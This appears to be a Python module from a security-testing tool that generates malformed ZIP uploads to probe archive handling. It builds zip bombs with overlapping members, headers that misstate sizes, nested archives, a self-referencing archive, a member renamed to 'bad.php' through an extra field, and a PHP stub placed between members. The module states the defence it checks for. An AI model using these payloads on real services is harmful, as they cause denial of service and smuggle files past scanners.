"""An archive whose headers lie about what is in it.

What it does
    Uploads archives with a member that says ten bytes and holds half a megabyte, or four, with
    many members that share the same bytes or quote each other, with two headers of one member
    that differ, with sizes and names that an extra field tells anew, with methods that few
    readers know, with bytes between the members, and archives in archives.

Why it works
    A check that adds up what the headers say is as good as the headers, and those are the
    client's. Overlapping members made ten megabytes out of ten thousand, past every limit on a
    single one; what lies one level down is looked at by nobody. Of two stories about a member
    the scanner believes the one and the unpacker the other.

Expected defence
    What comes out is counted while it comes out. Members that overlap, headers that differ,
    fields that tell a size twice and archives in archives are refused.

References
    - CWE-409, CWE-674
    - OWASP ASVS v5.0.0-5.2.3; WSTG-BUSL-09
    - PKWARE APPNOTE 4.3.9, 4.4.5, 4.5.3 and 4.6.9
    - David Fifield, A better zip bomb (2019)
"""

from __future__ import annotations

import bz2
import struct
import zlib

from hypothesis import strategies as st

from attacks.model import Attack, Confidence, Probe, Profile, Severity
from attacks.oracles.not_kept_as_sent import not_kept_as_sent
from attacks.strategies import contents
from attacks.strategies.archives import STREAMED, Member, field, nested, quoting, zipped
from attacks.strategies.typed import Tables, drawn, from_tables, honest_each

KIB = 1024
SAID = 10
LEVELS = st.integers(1, 3)


def _lying(size: int, said: int = SAID) -> bytes:
    return zipped([Member(name=b"a.txt", data=bytes(size), packed=True, claims=said)])


def _sizes_again(size: int) -> bytes:
    """Return the extra field of zip64, with another size than the headers'."""
    return field(0x0001, struct.pack("<QQ", size, size))


def _renamed(name: bytes) -> bytes:
    """Return the extra field by which Info-ZIP gives a name in UTF-8."""
    return field(0x7075, struct.pack("<BI", 1, zlib.crc32(b"honest.txt")) + name)


def _gap(whole: bytes) -> bytes:
    """Return *whole* with bytes of nobody's in front of its directory."""
    at = whole.index(b"PK\x01\x02")
    return whole[:at] + b"<?php ?>" + whole[at:-6] + struct.pack("<IH", at + 8, 0)


def _of_its_own_name(data: bytes) -> bytes:
    return zipped([Member(name=b"holding.zip", data=data)])


SHARED = [
    Member(data=b"x" * 64),
    *(Member(name=b"%d.txt" % n, data=b"x" * 64, at=0) for n in range(9)),
]
TABLES: Tables = {
    "zip": {
        "says-ten-bytes": _lying(512 * KIB),
        # more than a small limit: who stops counting there must remember that it did
        "says-ten-bytes-of-four-mebibytes": _lying(4 * KIB * KIB),
        "says-more": _lying(100, said=200),
        # as long as its header says, and not what was packed
        "other-data": contents.archive().replace(b"An honest", b"Another o"),
        "shared-bytes": zipped(SHARED),
        "names-differ": zipped([Member(name=b"a.txt", local_name=b"b.txt")]),
        "quoted-headers": quoting(20, bytes(KIB)),
        "sizes-told-again": zipped([Member(extra=_sizes_again(1 << 40))]),
        "name-told-again": zipped([Member(extra=_renamed(b"bad.php"))]),
        # where a stored member ends is told behind it, and who reads from the front cannot know
        "length-behind": zipped([Member(flags=STREAMED)]),
        "deflate64": zipped([Member(packed=True, method=9)]),
        "bzip2": zipped([Member(data=bz2.compress(bytes(KIB)), method=12, claims=KIB)]),
        "lzma": zipped([Member(method=14)]),
        "zstandard": zipped([Member(method=93)]),
        "gap": _gap(contents.archive()),
        "two-ends": contents.archive() + contents.archive(1)[-22:],
        "archive-in-archive": nested(1),
        "three-levels": nested(3),
        # as 42.zip is, which has six levels of sixteen
        "four-by-four": nested(2, width=4),
        # unpacked where it lies, it takes its own place
        "calls-itself": _of_its_own_name(_of_its_own_name(zipped([Member()]))),
    }
}


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return each lie."""
    return from_tables(profile, TABLES)


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Draw what is said and what is there; else how many quote each other, or how deep."""
    sizes = st.integers(1, 4 * KIB)
    lies = st.tuples(sizes, sizes).filter(lambda pair: pair[0] != pair[1])
    quotes = st.builds(quoting, st.integers(2, 9), st.integers(1, KIB).map(bytes))
    levels = st.builds(lambda depth, width: nested(depth, width=width), LEVELS, LEVELS)
    archives = lies.map(lambda pair: _lying(*pair)) | quotes | levels
    return drawn(profile, ("zip",), archives)


ATTACK = Attack(
    id="archive.lying-sizes",
    title="An archive that lies about its members",
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    controls=("archive-running-count",),
    cwe=(409, 674),
    asvs=("v5.0.0-5.2.3",),
    wstg=("WSTG-BUSL-09",),
    oracles=(not_kept_as_sent,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: honest_each(profile, "zip"),
)
